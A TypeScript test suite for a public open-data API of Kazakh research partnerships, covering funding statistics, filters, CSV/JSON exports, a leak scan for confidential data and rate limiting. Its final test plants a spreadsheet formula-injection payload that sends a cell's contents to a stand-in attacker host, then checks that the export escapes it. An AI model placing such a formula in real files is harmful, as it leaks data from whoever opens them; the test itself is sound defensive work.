import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { createTestContext, type TestContext } from '../../../tests/helpers/test-app.ts';
import { createClient, type TestClient } from '../../../tests/helpers/test-client.ts';
import { createPublicFixture, KAZAKH_LETTERS, SECRETS, TERMS_WORDS, type PublicFixture } from '../../../tests/helpers/public-fixtures.ts';
import { parseCsv } from '../../../tests/helpers/csv.ts';
import { partnerships } from '../partnerships/partnerships.table.ts';
import type { PublicOpenData, PublicPartnershipPage, PublicStats } from '../../../shared/schemas/public.ts';

let ctx: TestContext;
let visitor: TestClient;
let fixture: PublicFixture;
const M = 1_000_000;

beforeAll(async () => {
  ctx = await createTestContext();
  fixture = await createPublicFixture(ctx.app, ctx.db);
  // One public partnership is finished: the status filter and the per-status count must see it.
  await ctx.db.update(partnerships).set({ status: 'completed' }).where(eq(partnerships.id, fixture.ids.energy));
  visitor = createClient(ctx.app);
}, 120_000);
afterAll(() => ctx.close());

const identifierOf = (id: string) => `KZ-KOPIR-${id}`;

describe('GET /api/public/stats', () => {
  let stats: PublicStats;
  beforeAll(async () => {
    const response = await visitor.get('/api/public/stats');
    expect(response.status).toBe(200);
    stats = response.body;
  });

  it('adds up planned and disbursed money over public partnerships only', () => {
    // The private partnership's 120 M planned and 99 M paid are not in any figure.
    expect(stats.totals).toEqual({ partnerships: 3, plannedKzt: 360 * M, disbursedKzt: 100 * M });
  });

  it('breaks the money down by priority area, region and source, each reconciling with the totals', () => {
    const area = Object.fromEntries(stats.byPriorityArea.map((row) => [row.key, row]));
    expect(area.metallurgy).toMatchObject({ partnerships: 1, plannedKzt: 120 * M, disbursedKzt: 40 * M, national: true });
    expect(area.agritech).toMatchObject({ plannedKzt: 120 * M, disbursedKzt: 20 * M, national: true });
    expect(area.energy).toMatchObject({ plannedKzt: 120 * M, disbursedKzt: 40 * M, national: false });
    const region = Object.fromEntries(stats.byRegion.map((row) => [row.key, row]));
    expect(region.karaganda).toMatchObject({ partnerships: 1, plannedKzt: 120 * M, disbursedKzt: 40 * M });
    expect(region.abai).toMatchObject({ plannedKzt: 120 * M, disbursedKzt: 20 * M });
    expect(region.jetisu).toMatchObject({ plannedKzt: 120 * M, disbursedKzt: 40 * M });
    const source = Object.fromEntries(stats.bySource.map((row) => [row.key, row]));
    expect(source.enterprise).toMatchObject({ plannedKzt: 252 * M, disbursedKzt: 70 * M, partnerships: 3 });
    expect(source.subsoil_fund).toMatchObject({ plannedKzt: 60 * M, disbursedKzt: 20 * M });
    expect(source.state_program).toMatchObject({ plannedKzt: 36 * M, disbursedKzt: 10 * M });
    expect(source.institute_inkind).toMatchObject({ plannedKzt: 12 * M, disbursedKzt: 0 });
    for (const rows of [stats.byPriorityArea, stats.byRegion, stats.bySource, stats.byYear]) {
      expect(rows.reduce((total, row) => total + row.plannedKzt, 0)).toBe(stats.totals.plannedKzt);
      expect(rows.reduce((total, row) => total + row.disbursedKzt, 0)).toBe(stats.totals.disbursedKzt);
    }
  });

  it('counts years by tranche date, payment date and award date in Kazakhstan time', () => {
    const year = Object.fromEntries(stats.byYear.map((row) => [row.year, row]));
    // Agreed 2026-12-31T20:00Z is 1 January 2027 in Kazakhstan.
    expect(year[2026]).toEqual({ year: 2026, partnerships: 1, plannedKzt: 0, disbursedKzt: 70 * M });
    expect(year[2027]).toEqual({ year: 2027, partnerships: 2, plannedKzt: 360 * M, disbursedKzt: 30 * M });
  });

  it('shows the national-priority share against the 50 % target', () => {
    expect(stats.nationalPriority).toEqual({ targetPercent: 50, plannedKzt: 240 * M, disbursedKzt: 60 * M, plannedPercent: 66.67, disbursedPercent: 60 });
    expect(Object.fromEntries(stats.byStatus.map((row) => [row.key, row.partnerships]))).toEqual({ active: 2, completed: 1 });
  });
});

describe('GET /api/public/partnerships', () => {
  const list = async (query = '') => {
    const response = await visitor.get(`/api/public/partnerships${query}`);
    expect(response.status, JSON.stringify(response.body)).toBe(200);
    return response.body as PublicPartnershipPage;
  };

  it('pages public partnerships, newest award first', async () => {
    const first = await list('?pageSize=2');
    expect(first.total).toBe(3);
    expect(first.items.map((item) => item.identifier)).toEqual([identifierOf(fixture.ids.agritech), identifierOf(fixture.ids.energy)]);
    const second = await list('?pageSize=2&page=2');
    expect(second.items.map((item) => item.identifier)).toEqual([identifierOf(fixture.ids.metallurgy)]);
  });

  it('filters by priority area, region, source, award year and status', async () => {
    const identifiers = async (query: string) => (await list(query)).items.map((item) => item.identifier).sort();
    expect(await identifiers('?priorityArea=agritech')).toEqual([identifierOf(fixture.ids.agritech)]);
    // The private partnership is in Karaganda too, and stays out.
    expect(await identifiers('?region=karaganda')).toEqual([identifierOf(fixture.ids.metallurgy)]);
    expect(await identifiers('?source=subsoil_fund')).toEqual([identifierOf(fixture.ids.agritech)]);
    expect(await identifiers('?source=state_program')).toEqual([identifierOf(fixture.ids.metallurgy)]);
    expect(await identifiers('?year=2027')).toEqual([identifierOf(fixture.ids.agritech), identifierOf(fixture.ids.energy)].sort());
    expect(await identifiers('?year=2026')).toEqual([identifierOf(fixture.ids.metallurgy)]);
    expect(await identifiers('?status=completed')).toEqual([identifierOf(fixture.ids.energy)]);
    expect((await list('?region=karaganda&priorityArea=agritech')).total).toBe(0);
  });

  it('describes each partnership like a 360Giving grant, with BIN-based organisation identifiers', async () => {
    const item = (await list('?priorityArea=metallurgy')).items[0];
    expect(item).toMatchObject({
      identifier: identifierOf(fixture.ids.metallurgy),
      currency: 'KZT',
      amountAwarded: 120 * M,
      amountDisbursed: 40 * M,
      awardDate: '2026-03-10',
      plannedDates: { startDate: '2026-01-01', endDate: '2027-12-31' },
      recipientOrganization: { id: expect.stringMatching(/^KZ-BIN-\d{12}$/), name: fixture.instituteName },
      beneficiaryLocation: { geoCode: 'KZ-35', geoCodeType: 'ISO 3166-2', region: 'karaganda', nameKk: 'Қарағанды облысы' },
      grantProgramme: { code: 'metallurgy', national: true },
      plannedBySource: { enterprise: 72 * M, subsoil_fund: 0, state_program: 36 * M, institute_inkind: 12 * M },
      disbursedBySource: { enterprise: 30 * M, subsoil_fund: 0, state_program: 10 * M, institute_inkind: 0 },
    });
    expect(item.fundingOrganization).toEqual([
      { id: expect.stringMatching(/^KZ-BIN-\d{12}$/), name: fixture.enterpriseName, source: 'enterprise', amount: 72 * M },
      { id: 'KZ-KOPIR-FUND-STATE-PROGRAMME', name: expect.any(String), source: 'state_program', amount: 36 * M },
    ]);
    expect(item.description).toContain('Шламы медного электролита');
  });

  it('a registered-only task gives no description: only a public task’s problem statement is open data', async () => {
    const item = (await list('?priorityArea=agritech')).items[0];
    expect(item.description).toBeNull();
  });

  it('refuses unknown filters and values with a 400', async () => {
    expect((await visitor.get('/api/public/partnerships?region=atlantis')).status).toBe(400);
    expect((await visitor.get('/api/public/partnerships?isPublic=false')).status).toBe(400);
    expect((await visitor.get('/api/public/partnerships.csv?pageSize=5')).status).toBe(400);
  });
});

describe('open data downloads', () => {
  it('the CSV is UTF-8 with a byte-order mark, RFC 4180, and parses back to the JSON, Kazakh letters intact', async () => {
    const csv = await ctx.app.inject({ method: 'GET', url: '/api/public/partnerships.csv' });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="kopir-partnerships-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect([...csv.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const json = (await visitor.get('/api/public/partnerships.json')).body as PublicOpenData;
    expect(json.grants).toHaveLength(3);

    const [header, ...rows] = parseCsv(csv.rawPayload.toString('utf8').replace(/^\uFEFF/, ''));
    const records = rows.map((row) => Object.fromEntries(header.map((title, index) => [title, row[index]])));
    expect(records).toHaveLength(json.grants.length);
    records.forEach((record, index) => {
      const grant = json.grants[index];
      expect(record.Identifier).toBe(grant.identifier);
      expect(record.Title).toBe(grant.title);
      expect(record.Description).toBe(grant.description ?? '');
      expect(Number(record['Amount Awarded'])).toBe(grant.amountAwarded);
      expect(Number(record['Amount Disbursed'])).toBe(grant.amountDisbursed);
      expect(record['Recipient Org:Name']).toBe(grant.recipientOrganization.name);
      expect(record['Funding Org:0:Identifier']).toBe(grant.fundingOrganization[0].id);
      expect(record['Beneficiary Location:Name (kk)']).toBe(grant.beneficiaryLocation?.nameKk);
      expect(Number(record['Planned:State Programme'])).toBe(grant.plannedBySource.state_program);
      expect(record['Last Modified']).toBe(grant.lastModified);
    });
    const metallurgy = records.find((record) => record.Identifier === identifierOf(fixture.ids.metallurgy))!;
    // Quotes, a comma and a line break inside one field survive the round trip.
    expect(metallurgy.Description).toContain('"с выбросами SO2",\nнужен');
    expect(metallurgy.Title).toContain(KAZAKH_LETTERS);
    expect(metallurgy['Recipient Org:Name']).toContain(KAZAKH_LETTERS);
  });

  it('both downloads take the list’s filters', async () => {
    const json = (await visitor.get('/api/public/partnerships.json?source=subsoil_fund')).body as PublicOpenData;
    expect(json.grants.map((grant) => grant.identifier)).toEqual([identifierOf(fixture.ids.agritech)]);
    const csv = await ctx.app.inject({ method: 'GET', url: '/api/public/partnerships.csv?region=jetisu' });
    expect(parseCsv(csv.body.replace(/^\uFEFF/, ''))).toHaveLength(2);
  });
});

describe('nothing confidential leaks', () => {
  it('no public answer carries a private partnership, confidential details, terms clauses or anybody’s e-mail', async () => {
    const urls = [
      '/api/public/stats',
      '/api/public/partnerships?pageSize=100',
      '/api/public/partnerships?region=karaganda',
      '/api/public/partnerships?priorityArea=metallurgy&year=2026',
      '/api/public/partnerships.json',
      '/api/public/partnerships.json?region=karaganda',
      '/api/public/partnerships.csv',
      '/api/public/partnerships.csv?priorityArea=metallurgy',
    ];
    const forbidden = [...Object.values(SECRETS), ...TERMS_WORDS, ...fixture.emails, fixture.ids.private, '@'];
    for (const url of urls) {
      const response = await ctx.app.inject({ method: 'GET', url });
      expect(response.statusCode, url).toBe(200);
      for (const secret of forbidden) expect(response.body, `${url} leaks ${secret}`).not.toContain(secret);
    }
    // The scan can see: the public partnership it should show is there.
    expect((await ctx.app.inject({ method: 'GET', url: '/api/public/partnerships.csv' })).body).toContain(fixture.ids.metallurgy);
  });
});

describe('rate limit', () => {
  // A second app of its own (a fresh database takes a while on a busy machine: generous timeout).
  it('each address may call a public route KOPIR_PUBLIC_RATE_LIMIT times a minute, then gets a 429', async () => {
    const limited = await createTestContext({ publicRateLimit: 2 });
    try {
      const client = createClient(limited.app);
      expect((await client.get('/api/public/stats')).status).toBe(200);
      expect((await client.get('/api/public/stats')).status).toBe(200);
      const refused = await client.get('/api/public/stats');
      expect(refused.status).toBe(429);
      expect(refused.body.error.code).toBe('auth.rate_limited');
    } finally {
      await limited.close();
    }
  }, 120_000);
});

describe('open data CSV and spreadsheets', () => {
  it('writes a title that looks like a formula as text, so a spreadsheet never runs it', async () => {
    const [row] = await ctx.db.select({ title: partnerships.title }).from(partnerships).where(eq(partnerships.id, fixture.ids.metallurgy));
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    await ctx.db.update(partnerships).set({ title: formula }).where(eq(partnerships.id, fixture.ids.metallurgy));
    try {
      const csv = await ctx.app.inject({ method: 'GET', url: '/api/public/partnerships.csv' });
      const [header, ...rows] = parseCsv(csv.body.replace(/^\uFEFF/, ''));
      const line = rows.find((cells) => cells[header.indexOf('Identifier')] === identifierOf(fixture.ids.metallurgy))!;
      expect(line[header.indexOf('Title')]).toBe(`'${formula}`);
      // Amounts stay numbers.
      expect(line[header.indexOf('Amount Awarded')]).toMatch(/^\d+$/);
    } finally {
      await ctx.db.update(partnerships).set({ title: row.title }).where(eq(partnerships.id, fixture.ids.metallurgy));
    }
  });
});
